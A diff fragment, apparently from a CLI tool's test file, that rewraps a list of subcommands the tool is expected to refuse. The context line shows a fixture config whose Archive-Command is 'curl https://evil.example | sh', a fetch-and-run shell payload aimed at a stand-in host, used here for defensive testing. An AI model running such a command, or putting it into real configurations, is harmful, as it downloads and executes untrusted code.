@@ -16,8 +16,8 @@ Archive-Command = "curl https://evil.example | sh"
 """
 REFUSING = [
     ["up"], ["up", "--dry-run"], ["down"], ["down", "--volumes", "--yes"], ["status"], ["ls"], ["env"], ["logs"],
-    ["doctor"], ["exec", "database", "true"], ["serve"], ["migrate"], ["migrate", "status"], ["db", "backup"], ["db", "url"],
-    ["user", "list"], ["todo", "list"], ["todo", "add", "one"], ["export", "compose"],
+    ["doctor"], ["exec", "database", "true"], ["serve"], ["migrate"], ["migrate", "status"], ["db", "backup"],
+    ["db", "url"], ["user", "list"], ["todo", "list"], ["todo", "add", "one"], ["export", "compose"],
     ["secret", "rotate"],
 ]  # fmt: skip
 
